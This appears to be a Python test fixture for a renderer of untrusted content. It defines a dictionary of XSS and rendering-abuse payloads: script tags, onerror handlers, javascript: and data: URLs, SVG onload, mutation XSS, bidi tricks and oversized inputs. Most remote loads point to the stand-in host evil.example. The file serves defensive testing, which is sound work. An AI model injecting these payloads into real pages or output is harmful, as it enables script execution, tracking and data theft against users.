"""Attacks that a response may hold, for every place that shows untrusted content.

Everything that would be loaded lies on the host `evil.example`: a test that sees a request to it,
or the name in an attribute that loads by itself, fails.
"""

from typing import Any

HOST = "evil.example"
REMOTE = f"https://{HOST}"

ATTACKS = {
    "script": f"<script src={REMOTE}/x.js></script><script>alert(1)</script>",
    "onerror": f"<img src={REMOTE}/x onerror=alert(1)>",
    "javascript": "[x](javascript:alert(1)) [y](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
    "data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "svg": f"<svg onload=alert(1)><image href={REMOTE}/s.png /><script>alert(1)</script></svg>",
    "meta": f"<meta http-equiv=refresh content='0;url={REMOTE}/'>",
    "form": f"<form action={REMOTE}/f><input name=a autofocus onfocus=alert(1)><button>go</button>",
    "style": f"<style>@import url({REMOTE}/c.css); body {{ display: none }}</style>",
    "style-attribute": f"<p style='position:fixed;inset:0;background:url({REMOTE}/b.png)'>x</p>",
    "css-escape": "<p style='\\70osition:fixed;\\7a-index:9999'>x</p>",
    "iframe": f"<iframe src={REMOTE}/i></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "nested-srcdoc": "<iframe srcdoc=\"<iframe srcdoc='&lt;script&gt;parent.alert(1)'>\"></iframe>",
    "media": f"<video autoplay src={REMOTE}/v.mp4></video><audio autoplay src={REMOTE}/a.mp3>",
    "picture": f"<picture><source srcset={REMOTE}/p.png><img src={REMOTE}/p srcset={REMOTE}/q>",
    "object": f"<object data={REMOTE}/o></object><embed src={REMOTE}/e><link href={REMOTE}>",
    "base": f"<base href={REMOTE}/><a href=x>x</a>",
    "mathml": "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "mathml-link": "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template><dialog open>boo</dialog>",
    "markdown-image": f"![x]({REMOTE}/m.png) ![y](//{HOST}/m.png) ![z](javascript:alert(1))",
    "markdown-link": f'[x]({REMOTE}/ "onclick=alert(1)") [y](//{HOST}) [z](/logout/) <{REMOTE}>',
    "markdown-reference": f"[x][1] ![y][1]\n\n[1]: {REMOTE}/r.png 'a\" onclick=alert(1)'",
    "fence": '```"><script>alert(1)</script>\nx\n```\n\n```python onclick=alert(1)\nx = 1\n```',
    "breakout": '"></div></div></article></main><h1>outside</h1><!-- --><![CDATA[ ]]>',
    "srcdoc-breakout": '"></iframe><script>alert(1)</script>&quot;&gt;<img src=x onerror=alert(1)>',
    "template-tags": "{% load x %}{{ secret }}{% include '/etc/passwd' %}",
    "bidi": "safe \u202e\u2067 gnp.exe \u2066 access\u202e granted",
    "zalgo": "Z" + "\u0300\u0316\u0489" * 300 + "algo",
    "long-word": "W" * 20_000,
    "long-formula": "$" + "x" * 1900 + "$",
    "wide-table": "|" + " cell |" * 200 + "\n|" + "-|" * 200 + "\n|" + " wide content |" * 200,
    "deep": "> " * 300 + "deep",
    "deep-list": "\n".join("  " * depth + "- x" for depth in range(120)),
    "controls": "nul \0, bell \x07, surrogate \ud800, end \uffff",
    "huge": "<b>**x** " + "word " * 210_000,
}
DATA_SVG = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"
ADDRESSES = [
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    DATA_SVG,
    f"//{HOST}/x.png",
    f"http://{HOST}/x.png",
    f"{REMOTE}/x.png",
    f"https://user:secret@{HOST}/x.png",
    "/logout/",
    '" onerror="alert(1)',
    f'{REMOTE}/" onerror=alert(1) x="',
]


def parts_with(text: str) -> list[dict[str, Any]]:
    """Every kind of part with the attack in every field it has."""
    named = {"title": text[:300], "alt": text[:2000]}
    media: list[dict[str, Any]] = [
        {"type": kind, "url": address, **named}
        for kind in ("image", "audio", "video")
        for address in (*ADDRESSES, text[:500])
    ]
    return [
        {"type": "text", "text": text},
        {"type": "code", "text": text, "language": text[:60], "title": text[:300]},
        {"type": "html", "text": text, "title": text[:300]},
        {"type": "citation", "document": text[:200], "quote": text[:4000]},
        {"type": "citation", "document": 0, "quote": text[:4000]},
        {"type": text[:60], "text": text},
        {"type": "image", "file": text[:200], "sha256": text[:64]},
        *media,
    ]


def documents_with(text: str) -> list[object]:
    """A document as a text, and one with the attack in every field."""
    fields = {"id": text[:200], "title": text[:300], "text": text}
    return [text, *({**fields, "url": address} for address in ADDRESSES)]
